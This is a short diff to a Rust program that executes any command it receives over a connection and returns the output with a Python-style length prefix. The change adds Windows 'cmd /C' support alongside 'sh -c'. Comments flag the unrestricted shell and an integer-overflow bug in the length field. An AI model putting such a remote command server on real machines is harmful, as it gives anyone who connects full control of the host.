@@ -28,7 +28,8 @@ fn main() -> std::io::Result<()> {
             println!("cmd: {:?}", String::from_utf8_lossy(&cmd[..n]));
             // BROKEN: a shell for whoever connects, without a limit in time or size.
             let cmd = String::from_utf8_lossy(&cmd[..n]).into_owned();
-            let output = Command::new("sh").args(["-c", &cmd]).output()?;
+            let (shell, option) = if cfg!(windows) { ("cmd", "/C") } else { ("sh", "-c") };
+            let output = Command::new(shell).args([option, &cmd]).output()?;
             // Python's struct.pack('i', n) on x86: 4 bytes, little-endian.
             // BROKEN: an answer above i32::MAX bytes gets a wrong length, and nobody notices.
             let length = (output.stdout.len() + output.stderr.len()) as i32;
